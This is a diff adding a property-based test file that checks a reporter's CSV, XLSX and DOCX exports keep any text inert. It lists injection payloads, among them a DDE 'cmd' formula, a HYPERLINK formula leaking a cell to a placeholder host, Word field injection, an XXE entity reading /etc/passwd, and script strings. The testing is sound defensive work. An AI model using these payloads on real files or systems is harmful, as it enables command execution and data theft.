@@ -1,0 +1,131 @@
+"""Any text whatever, in any field, is inert in the formats that other programs open."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import zipfile
+from xml.etree import ElementTree as ET
+
+import docx
+import openpyxl
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from reporter.render.document import Docx
+from reporter.render.spreadsheet import Csv, Xlsx
+from tests.briefings import hostile
+
+PAYLOADS = (
+    "=1+1",
+    "=cmd|'/C calc'!A0",
+    '=HYPERLINK("https://a.example/?"&A1,"x")',
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\u00a0=1+1",
+    "\u200b=1+1",
+    "\uff1d1+1",
+    '"=1+1',
+    '",=1+1,"',
+    ";=1+1",
+    '";"=1+1',
+    'x";\n=1+1',
+    "_x003D_1+1",
+    "]]><w:instrText>INCLUDETEXT c:/x</w:instrText>",
+    "{ INCLUDEPICTURE https://a.example/p.png }",
+    "<script>alert(1)</script>",
+    "</t></si><f>1+1</f>",
+    "&#61;1+1",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+    "javascript:alert(1)",
+    "\x00\x08\x1b\x7f\x85\u202e\u2066\ufffe\uffff\ud800",
+    "a\u0301" * 50,
+    "x" * 100_000,
+    "",
+)
+text = st.one_of(
+    st.sampled_from(PAYLOADS),
+    st.text(st.characters(), max_size=40),
+    st.lists(st.sampled_from([*"=+-@|%;,\"'\t\r\n <>&_", "\uff1d", "cmd", "1", "\u202e", "\u00a0"]), max_size=14).map("".join),
+)
+_STARTS = re.compile(r"[\s\"]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
+_HIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
+
+
+def check_csv(content: bytes, claims: int) -> None:
+    """However a spreadsheet cuts the lines, nothing begins as a formula does; cut as meant, each claim is one row."""
+    read = content.decode("utf-8-sig")
+    assert not _HIDDEN.search(read)
+    for delimiter in ",;\t":
+        for row in csv.reader(io.StringIO(read, newline=""), delimiter=delimiter):
+            assert not [cell for cell in row if _STARTS.match(cell)]
+    rows = list(csv.reader(io.StringIO(read, newline="")))
+    assert len(rows) == 1 + claims
+    assert len({len(row) for row in rows}) == 1
+
+
+def parts(content: bytes) -> dict[str, bytes]:
+    archive = zipfile.ZipFile(io.BytesIO(content))
+    return {name: archive.read(name) for name in archive.namelist()}
+
+
+def check_archive(content: bytes) -> None:
+    """Each part is XML without a document type, and nothing leads out of the file."""
+    for name, part in parts(content).items():
+        if name.endswith((".xml", ".rels")):
+            ET.fromstring(part)
+            assert b"<!DOCTYPE" not in part
+            assert b'TargetMode="External"' not in part
+            assert not _HIDDEN.search(part.decode())
+
+
+def check_workbook(content: bytes) -> None:
+    check_archive(content)
+    cells = [c for sheet in openpyxl.load_workbook(io.BytesIO(content)) for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert {c.data_type for c in cells} <= {"s", "n"}
+    assert not [c for c in cells if isinstance(c.value, str) and _STARTS.match(c.value)]
+
+
+def check_document(content: bytes) -> None:
+    check_archive(content)
+    document = docx.Document(io.BytesIO(content))
+    assert re.findall(r"<w:instrText[^>]*>(.*?)</w:instrText>", document.element.xml) == []
+    footers = [n for n in parts(content) if "footer" in n and n.endswith(".xml")]
+    fields = [f for n in footers for f in re.findall(rb"<w:instrText[^>]*>(.*?)</w:instrText>", parts(content)[n])]
+    assert fields == [b"PAGE"]
+    addresses = [h.address for p in document.paragraphs for h in p.hyperlinks]
+    assert not [a for a in addresses if a]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_known_attacks_stay_text(payload):
+    briefing = hostile(payload)
+    check_csv(Csv().render(briefing), len(briefing.claims))
+    check_workbook(Xlsx().render(briefing))
+    check_document(Docx().render(briefing))
+
+
+@settings(max_examples=100, deadline=None)
+@given(text)
+@example(";\"'=")
+def test_any_text_stays_text_in_csv(given_text):
+    briefing = hostile(given_text)
+    check_csv(Csv().render(briefing), len(briefing.claims))
+
+
+@settings(max_examples=60, deadline=None)
+@given(text)
+def test_any_text_stays_text_in_a_workbook(given_text):
+    check_workbook(Xlsx().render(hostile(given_text)))
+
+
+@settings(max_examples=25, deadline=None)
+@given(text)
+def test_any_text_stays_text_in_a_document(given_text):
+    check_document(Docx().render(hostile(given_text)))
